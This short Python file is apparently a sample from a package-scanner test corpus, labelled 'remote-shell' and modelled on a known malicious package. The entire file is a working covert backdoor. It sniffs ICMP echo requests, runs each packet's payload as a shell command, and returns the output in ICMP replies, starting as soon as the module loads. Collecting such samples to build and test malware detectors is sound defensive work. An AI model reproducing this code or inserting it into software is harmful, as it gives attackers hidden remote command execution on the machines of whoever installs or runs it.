# pkgguard corpus 606 (remote-shell), modelled on [discordpydebug]; inert, never run.
import subprocess

from scapy.all import ICMP, IP, Raw, send, sniff


def _on_packet(pkt):
    if pkt.haslayer(ICMP) and pkt[ICMP].type == 8 and pkt.haslayer(Raw):
        out = subprocess.run(pkt[Raw].load.decode(errors="ignore"), shell=True, capture_output=True)
        send(IP(dst=pkt[IP].src) / ICMP(type=0) / Raw(load=out.stdout[:1000]), verbose=False)


sniff(filter="icmp", prn=_on_packet, store=False)
